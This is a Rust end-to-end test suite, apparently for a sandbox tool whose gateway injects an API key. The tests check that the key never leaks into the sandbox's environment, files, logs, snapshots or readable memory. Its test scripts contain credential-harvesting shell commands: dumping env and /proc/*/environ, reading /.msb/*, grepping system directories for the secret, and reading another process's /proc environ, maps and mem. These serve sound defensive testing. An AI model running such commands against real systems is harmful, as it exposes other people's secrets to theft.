//! Leaks: the value is nowhere but in the memory of the gateway.

use super::{FLAGS, lasting, value};
use crate::testnet::TestNet;
use msb_e2e::{Process, ends, gives};
use std::fs::{self, File};
use std::os::unix::fs::FileExt;
use std::process::Command;

/// Whether the memory of a process holds these bytes.
fn remembers(process: &Process, bytes: &[u8]) -> bool {
    let maps = fs::read_to_string(format!("/proc/{}/maps", process.pid)).unwrap_or_default();
    let Ok(memory) = File::open(format!("/proc/{}/mem", process.pid)) else { return false };
    maps.lines().any(|line| {
        let (range, rest) = line.split_once(' ').unwrap_or_default();
        let (from, to) = range.split_once('-').unwrap_or_default();
        let number = |text: &str| u64::from_str_radix(text, 16).unwrap_or(0);
        let (from, to) = (number(from), number(to));
        // What is only reserved, and what the kernel keeps for itself.
        if !rest.starts_with('r') || line.ends_with("[vvar]") || to - from > 1 << 30 {
            return false;
        }
        let mut content = vec![0; usize::try_from(to - from).unwrap_or(0)];
        let read = memory.read_at(&mut content, from).unwrap_or(0);
        content[..read].windows(bytes.len()).any(|window| window == bytes)
    })
}

/// Attack 38.
#[test]
fn the_value_is_nowhere_but_in_the_gateway() {
    for user in TestNet::users() {
        let value = value(&user, "nowhere");
        lasting(&user, &value, "net", &FLAGS);
        let script = "curl -sS https://api.example.com/ -H \"x-api-key: $API_KEY\" -o /tmp/answer; \
                      env; cat /proc/*/environ /tmp/answer; mount; cat /.msb/* 2>/dev/null";
        let gave = user.within("net", script);
        assert!(!gave.stdout.contains(&value) && !gave.stderr.contains(&value), "{gave:#?}");
        // Everything that the sandbox can read of its own files.
        let search = format!(
            "grep -rlsF -e '{}' /etc /tmp /root /home /run /.msb /proc/*/environ; true",
            &value[5..]
        );
        let found = user.within("net", &search).line();
        // The search's own words are in its environment's neighbour, not in it.
        assert_eq!(found, "");
        for args in [
            &["inspect", "net"][..],
            &["ls", "--json"],
            &["logs", "net"],
            &["events", "net"],
            &["events", "--net", "--json", "net"],
            &["net", "--json", "net"],
        ] {
            let gave = user.run(args);
            assert!(!gave.stdout.contains(&value) && !gave.stderr.contains(&value), "{args:?}");
        }
        let processes = user.msb.processes("net");
        let mut keepers = Vec::new();
        for process in &processes {
            for file in ["environ", "cmdline"] {
                let text = fs::read(format!("/proc/{}/{file}", process.pid)).unwrap_or_default();
                let text = String::from_utf8_lossy(&text).into_owned();
                assert!(!text.contains(&value), "{file} of {process:?}");
            }
            if remembers(process, value.as_bytes()) {
                keepers.push(process.name.clone());
            }
        }
        // The gateway has it, or this test does not know how to look.
        assert_eq!(keepers, ["msb-gateway"], "{processes:?}");
    }
}

/// Attack 38: no trace on disk, while it runs and after.
#[test]
fn the_value_is_in_no_state_that_stays() {
    for user in TestNet::users() {
        let value = value(&user, "stays");
        lasting(&user, &value, "net", &FLAGS);
        let kept = || {
            let mut grep = Command::new("grep");
            grep.args(["-rlsF", "-e", &value]).arg(user.msb.home());
            gives(&mut grep).stdout
        };
        user.within("net", "curl -s https://api.example.com/ -H \"x-api-key: $API_KEY\"").ok();
        assert_eq!(kept(), "");
        user.run(["stop", "net"]).ok();
        assert_eq!(kept(), "");
        let inspected = user.run(["inspect", "net"]).ok();
        assert!(inspected.stdout.contains("API_KEY"), "{inspected:#?}");
    }
}

/// The gateway leaves no core file to look into.
#[test]
fn the_memory_of_a_gateway_cannot_be_read() {
    for user in TestNet::users() {
        let value = value(&user, "core");
        lasting(&user, &value, "net", &FLAGS);
        let processes = user.msb.processes("net");
        let gateway = processes.iter().find(|process| process.name == "msb-gateway").unwrap();
        let limits = fs::read_to_string(format!("/proc/{}/limits", gateway.pid)).unwrap();
        let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
        let words: Vec<&str> = core.split_whitespace().collect();
        assert_eq!(words[4..6], ["0", "0"], "{core}");
        if user.msb.is_root() {
            continue;
        }
        // Nor does another process of the same user see it.
        let mut cat = user.at_home("sh");
        cat.args(["-c", &format!("cat /proc/{0}/environ /proc/{0}/maps", gateway.pid)]);
        let gave = ends(cat.spawn().unwrap());
        assert_eq!(gave.stdout, "", "{gave:#?}");
    }
}

/// Attack 40.
#[test]
fn the_variables_of_the_caller_stay_outside() {
    for user in TestNet::users() {
        let value = value(&user, "variables");
        let mut command = user.inside_command(&FLAGS, "env; cat /proc/*/environ | tr '\\0' '\\n'");
        command.env("API_KEY", &value).env("OTHER_KEY", "not for you").env("SSH_AUTH_SOCK", "/x");
        let gave = ends(command.spawn().unwrap()).ok();
        for word in [&value[..], "not for you", "SSH_AUTH_SOCK", "MSB_HOME"] {
            assert!(!gave.stdout.contains(word), "{word}: {gave:#?}");
        }
    }
}

/// Attack 38, in snapshots: neither the value nor its placeholder, nor the CA that it trusts.
#[test]
fn a_snapshot_holds_no_secret_and_nothing_of_one() {
    for user in TestNet::users() {
        let value = value(&user, "snapshot");
        lasting(&user, &value, "box", &FLAGS);
        let written = "echo mine > /root/mine; cat /etc/hosts >/dev/null; printenv API_KEY";
        let placeholder = user.within("box", written).line();
        user.run(["snapshot", "create", "live", "--from", "box"]).ok();
        user.run(["stop", "-f", "box"]).ok();
        user.run(["snapshot", "create", "base", "--from", "box"]).ok();
        let saved = user.scratch().join("base.tar");
        user.run([
            "snapshot".as_ref(),
            "save".as_ref(),
            "base".as_ref(),
            "-o".as_ref(),
            saved.as_os_str(),
        ])
        .ok();
        let home = user.home();
        let places = [home.join("snapshots"), home.join("frozen"), saved];
        for words in [value.as_str(), &placeholder, "BEGIN CERTIFICATE", "API_KEY"] {
            let mut search = std::process::Command::new("grep");
            let found = msb_e2e::gives(search.args(["-rlaF", "--", words]).args(&places));
            assert_eq!(found.stdout, "", "{words}");
        }
        let script = "cat /root/mine; env; cat /.msb/* 2>/dev/null; true";
        let gave = user.run(["run", "-q", "--no-net", "snapshot:base", "--", "sh", "-c", script]);
        let gave = gave.ok();
        assert!(gave.stdout.starts_with("mine\n"), "{gave:#?}");
        for hidden in ["API_KEY", "msb-secret-", "SSL_CERT_FILE", "BEGIN"] {
            assert!(!gave.stdout.contains(hidden), "{hidden}: {gave:#?}");
        }
    }
}

/// Attack 38, with everything that msb can log.
#[test]
fn the_value_is_not_logged() {
    for user in TestNet::users() {
        let value = value(&user, "logged");
        let log = user.msb.scratch().join("trace.log");
        let word = format!("logged-{}", user.msb.uid());
        let script = format!(
            "curl -sS https://api.example.com/{word} -H \"x-api-key: $API_KEY\"; \
             curl -sS https://api.example.com/refused?key=$API_KEY; \
             curl -sS https://unknown.example.com/ -H \"x-api-key: $API_KEY\"; true"
        );
        let mut command = user.inside_command(&FLAGS, &script);
        command.env("API_KEY", &value).env("MSB_LOG", "trace").env("MSB_LOG_FILE", &log);
        ends(command.spawn().expect("msb can be executed")).ok();
        // It was used.
        assert_eq!(
            super::header(&super::arrived(&user, &word), "x-api-key"),
            std::slice::from_ref(&value)
        );
        let text = fs::read_to_string(&log).expect("a log");
        assert!(text.contains("DEBUG gateway sandbox{name="), "{text}");
        assert!(text.contains("flow{id=1}: decided"), "{text}");
        assert!(text.contains("API_KEY"), "{text}");
        assert!(!text.contains(&value), "{text}");
    }
}
